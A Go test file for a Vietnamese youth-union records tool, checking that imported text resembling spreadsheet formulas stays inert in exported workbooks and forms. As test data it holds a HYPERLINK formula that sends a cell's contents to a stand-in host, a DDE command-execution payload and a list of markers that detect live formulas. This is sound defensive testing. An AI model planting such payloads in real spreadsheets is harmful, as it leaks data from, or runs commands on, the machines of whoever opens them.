package command_test

import (
	"archive/zip"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

const formula = `=HYPERLINK("http://vi.du/"&A1,"bấm vào đây")`

// noFormula makes sure that nothing in a workbook is worked out by whoever opens it, and gives all it shows.
func noFormula(t *testing.T, path string) (shown string) {
	t.Helper()
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, part := range z.File {
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		raw, err := io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatal(err)
		}
		for _, mark := range []string{"<f>", "<f ", "<hyperlink", "ddeLink", "TargetMode=\"External\""} {
			if strings.Contains(string(raw), mark) {
				t.Errorf("%s: part %s holds %q", filepath.Base(path), part.Name, mark)
			}
		}
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for _, name := range f.GetSheetList() {
		rows, err := f.GetRows(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			shown += strings.Join(row, "\t") + "\n"
		}
	}
	return shown
}

func TestTextThatLooksLikeAFormulaStaysText(t *testing.T) {
	o := newOffice(t)
	o.must("units", "add", "--name", formula, "--level", "grassroots", "--parent", "H001")
	path := list(t, "công thức.xlsx", append(append([]string(nil), header...), "Ghi chú"),
		[]string{"1", "Nguyễn Văn An", "26/03/2004", "Nam", "Kinh", "0912345671", strings.ReplaceAll(formula, `"`, "&quot;"), "+cmd|' /C calc'!A0"},
		[]string{"2", "@SUM(1+1)*cmd", "27/03/2004", "Nữ", "Kinh", "0912345672", "Chi đoàn 1", "-2+3"},
		[]string{"3", "=1+1", "31/02/2004", "Nữ", "Kinh", "0912345673", "Chi đoàn 1", strings.ReplaceAll(formula, `"`, "&quot;")})
	var got imported
	o.read(&got, "import", path, "--unit", unit)
	if got.counts(0) != (counted{rows: 3, fresh: 2, errors: 2}) {
		t.Errorf("%+v: %+v", got.counts(0), got.Files[0].Errors)
	}
	if p := o.people()["Nguyễn Văn An"]; p["branch"] != "Chi đoàn =HYPERLINK" || p["note"] != "+cmd|' /C calc'!A0" {
		t.Errorf("kept as %v", p)
	}
	if shown := noFormula(t, got.Files[0].ErrorFile); !strings.Contains(shown, formula) || !strings.Contains(shown, "=1+1") {
		t.Errorf("the error file shows %s", shown)
	}
	folder := t.TempDir()
	r01, r02 := filepath.Join(folder, "R-01.xlsx"), filepath.Join(folder, "R-02.xlsx")
	o.must("form", "R-01", "--unit", "CS002", "--year", "2022", "-o", r01)
	o.must("form", "R-02", "--year", "2022", "-o", r02)
	for _, form := range []string{r01, r02} {
		if shown := noFormula(t, form); !strings.Contains(shown, `"bấm vào đây"`) {
			t.Errorf("%s does not show the name of the unit: %s", filepath.Base(form), shown)
		}
	}
	o.must("form", "R-01", "--unit", "CS002", "--year", "2022", "-o", filepath.Join(folder, "R-01.pdf"))
	o.must("dossier", "--unit", unit, "-o", filepath.Join(folder, "hồ sơ.pdf"))
	o.sound()
}

func TestFileNamesWithSpacesMarksAndSigns(t *testing.T) {
	o := newOffice(t)
	folder := filepath.Join(t.TempDir(), `Hồ sơ 100% #2 'Đoàn' & (mới); $HOME ~ + ,`)
	if err := os.Mkdir(folder, 0o755); err != nil {
		t.Fatal(err)
	}
	content := contentOf(t, list(t, "x.xlsx", header, []string{"1", "Nguyễn Văn An", "26/03/2004", "Nam"}, []string{"2", "Lê Thị Bé", "31/02/2004", "Nữ"}))
	for i, name := range []string{`DS #1 50%.xlsx`, `đoàn viên 'mới' & cũ.xlsx`, `?mode=memory&x=%20.xlsx`, `-không phải cờ.xlsx`, `😀.xlsx`} {
		path := filepath.Join(folder, name)
		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		var got imported
		o.read(&got, "import", path, "--unit", unit)
		if f := got.Files[0]; f.File != name || f.New+f.Unchanged != 1 || (i == 0) != (f.New == 1) || f.ErrorFile != strings.TrimSuffix(path, ".xlsx")+".loi.xlsx" {
			t.Errorf("%s: %+v", name, f)
		}
		target := filepath.Join(folder, name+".pdf")
		o.must("form", "R-01", "--unit", unit, "--year", "2022", "-o", target)
		if !strings.HasPrefix(contentOf(t, target), "%PDF-") {
			t.Errorf("%s is no PDF", target)
		}
		other := office{t, filepath.Join(folder, strings.TrimSuffix(name, ".xlsx")+".db")}
		other.must("init", "--unit-name", "Huyện đoàn", "--level", "district")
		other.must("check")
	}
	if got := filesIn(t, folder); len(got) != 5*4 {
		t.Errorf("the folder holds %q", got)
	}
	o.sound()
}

func TestAVeryLongUnitNameStillPrintsUnderAFileNameThatFits(t *testing.T) {
	o := newOffice(t)
	long := strings.TrimSpace("Đoàn " + strings.Repeat("trường trung học phổ thông ", 11))
	o.must("units", "add", "--name", long, "--level", "grassroots", "--parent", "H001")
	o.must("units", "add", "--name", strings.Repeat("Ư", 300), "--level", "grassroots", "--parent", "H001")
	var units []struct{ Code, Name string }
	if o.read(&units, "units"); len(units) != 4 || len([]rune(units[3].Name)) != 300 && len([]rune(units[2].Name)) != 300 {
		t.Errorf("the units are %v", units)
	}
	folder := filepath.Join(t.TempDir(), "phiếu")
	o.must("form", "R-01", "--all", "--year", "2022", "-o", folder)
	names := filesIn(t, folder)
	if len(names) != 3 {
		t.Errorf("the forms are %q", names)
	}
	for _, name := range names {
		if len(name) > 120 {
			t.Errorf("the file name %q has %d bytes", name, len(name))
		}
		noFormula(t, filepath.Join(folder, name))
	}
	for _, paper := range []string{"R-01.pdf", "R-01.xlsx"} {
		for _, code := range []string{"CS002", "CS003"} {
			o.must("form", "R-01", "--unit", code, "--year", "2022", "-o", filepath.Join(t.TempDir(), paper))
		}
	}
	summary := filepath.Join(t.TempDir(), "R-02.xlsx")
	o.must("form", "R-02", "--year", "2022", "-o", summary)
	shown := noFormula(t, summary) // a long name goes on in the rows below
	if strings.Count(shown, "phổ") != 11 || strings.Count(shown, "Ư") < 300 {
		t.Errorf("R-02 does not show the long names whole: %s", shown)
	}
}

func TestEmojiAndOddLettersInNames(t *testing.T) {
	o := newOffice(t)
	o.must("units", "add", "--name", "Đoàn xã 🌱 Xanh", "--level", "grassroots", "--parent", "H001")
	long := strings.TrimSpace(strings.Repeat("Nguyễn ", 43))
	path := list(t, "tên lạ.xlsx", header,
		[]string{"1", "Nguyễn Văn 😀 An", "26/03/2004", "Nam"},
		[]string{"2", "Tra\u0302\u0300n Thi\u0323 Bi\u0300nh", "27/03/2004", "Nữ"}, // letters and marks apart
		[]string{"3", "Lê\u200b Văn\u00a0Cường", "28/03/2004", "Nam"},              // what cannot be seen
		[]string{"4", long, "29/03/2004", "Nam"},
		[]string{"5", "&lt;b&gt;Đỗ&lt;/b&gt; Thị Em", "30/03/2004", "Nữ"},
		[]string{"6", "😀😀", "01/04/2004", "Nam"})
	var got imported
	var warns warned
	out := o.must("import", path, "--unit", unit, "--json")
	decode(t, out, &got)
	decode(t, out, &warns)
	if got.counts(0) != (counted{rows: 6, fresh: 5, errors: 1}) || got.Files[0].Errors[0].Row != 7 || got.Files[0].Errors[0].Column != "B" {
		t.Errorf("%+v: %+v", got.counts(0), got.Files[0].Errors)
	}
	for _, name := range []string{"Nguyễn Văn 😀 An", "Trần Thị Bình", "Lê Văn Cường", long, "<b>Đỗ</b> Thị Em"} {
		if o.people()[name] == nil {
			t.Errorf("%q is not kept as such", name)
		}
	}
	explains(t, warns.at(2), "ký tự lạ “😀”")
	explains(t, warns.at(5), "dài 300 ký tự")
	folder := t.TempDir()
	for _, args := range [][]string{
		{"form", "R-01", "--unit", "CS002", "--year", "2022", "-o", filepath.Join(folder, "R-01.pdf")},
		{"dossier", "--unit", unit, "-o", filepath.Join(folder, "hồ sơ.pdf")},
	} {
		code, _, errs := o.run(args...)
		if code != 0 {
			t.Fatalf("%v: exit %d: %s", args, code, errs)
		}
		if !strings.Contains(errs, "“") || strings.Contains(errs, "panic") {
			t.Errorf("%s: the officer is not told of the letter that cannot be printed: %q", args[0], errs)
		}
	}
	o.sound()
}
